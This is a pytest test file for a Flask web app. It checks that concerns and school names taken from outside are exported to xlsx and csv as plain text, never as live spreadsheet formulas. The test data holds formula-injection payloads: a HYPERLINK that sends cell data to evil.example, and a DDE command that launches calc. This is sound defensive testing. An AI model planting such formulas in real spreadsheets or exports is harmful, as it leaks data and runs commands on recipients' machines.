"""Issue 13.1: text that came from outside is written as text in every xlsx and csv we produce, never a formula."""

from __future__ import annotations

import io
import re

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from backend.services import tabular
from backend.store.db import Database
from backend.store.models import Unit
from tests.integration.test_office_web import Seeded, sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?t="&A2,"查看详情")'
DDE = "=cmd|' /C calc'!A0"


def send_from_board_page(client: FlaskClient, code: str, content: str) -> None:
    page = client.get(f"/b/{code}")
    token = re.search(r'name="token" value="([^"]+)"', page.text)
    assert page.status_code == 200 and token is not None
    response = client.post(
        f"/b/{code}",
        data={"content": content, "category": "", "token": token.group(1)},
        headers={"Origin": "http://localhost"},
    )
    assert response.status_code == 201, response.text


def cells_of(content: bytes) -> list[tuple[Worksheet, object]]:
    book = load_workbook(io.BytesIO(content))
    return [(sheet, cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formulas(content: bytes, *texts: str) -> None:
    cells = cells_of(content)
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet, cell in cells if cell.data_type == "f"]  # type: ignore[attr-defined]
    assert formulas == []
    values = {cell.value for _, cell in cells}  # type: ignore[attr-defined]
    for text in texts:
        assert any(isinstance(v, str) and text in v for v in values), text  # kept as typed, shown as text


def test_concerns_sent_from_the_board_page_are_exported_as_text(app: Flask, seeded: Seeded) -> None:
    public = app.test_client()
    send_from_board_page(public, seeded.school_a, HYPERLINK)
    send_from_board_page(public, seeded.school_a, DDE)
    office = app.test_client()
    sign_in(office, "admin")
    response = office.get("/office/export/concerns.xlsx")
    assert response.status_code == 200
    assert_no_formulas(response.data, HYPERLINK, DDE)
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    contents = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert HYPERLINK in contents and DDE in contents  # exactly as sent, no apostrophe added


def test_a_school_name_imported_from_csv_is_exported_as_text(app: Flask, seeded: Seeded, database: Database) -> None:
    office = app.test_client()
    token = sign_in(office, "admin")
    evil = '=HYPERLINK("http://evil.example","城关镇中心小学")'
    csv_text = (
        '学校代码,学校名称,学段,办学性质,督学责任区\r\n3301029901,"' + evil.replace('"', '""') + '",小学,公办,\r\n'
    )
    response = office.post(
        "/office/import",
        data={
            "kind": "schools",
            "csrf_token": token,
            "file": (io.BytesIO(("\ufeff" + csv_text).encode()), "schools.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    with database.sessions() as s:
        assert s.scalar(select(Unit.name).where(Unit.code == "3301029901")) == evil  # stored as typed
    for url in ("/office/export/schools.xlsx", "/office/export/annual.xlsx"):
        exported = office.get(url)
        assert exported.status_code == 200, url
        assert_no_formulas(exported.data)
    assert_no_formulas(office.get("/office/export/schools.xlsx").data, evil)


def test_every_way_a_formula_starts_is_written_as_text_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    hostile = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\n=1", "城关镇中心小学"]
    tabular.append_row(sheet, [*hostile, 42, -3, 1.5, "\r=1"])
    out = io.BytesIO()
    book.save(out)
    [row] = load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()
    values = [c.value for c in row]
    assert values[:-1] == [*hostile, 42, -3, 1.5]
    # the CR stays text either way: openpyxl writing through lxml (python-docx brings it) keeps it, without lxml the
    # XML writer turns it into LF
    assert values[-1] in ("\r=1", "\n=1")
    assert [c.data_type for c in row] == ["s"] * 7 + ["n"] * 3 + ["s"]
    assert [tabular.csv_cell(v) for v in ["=1", "@x", "\t=1", "学校", 7, -3, None]] == [
        "'=1", "'@x", "'\t=1", "学校", "7", "-3", "",
    ]  # fmt: skip
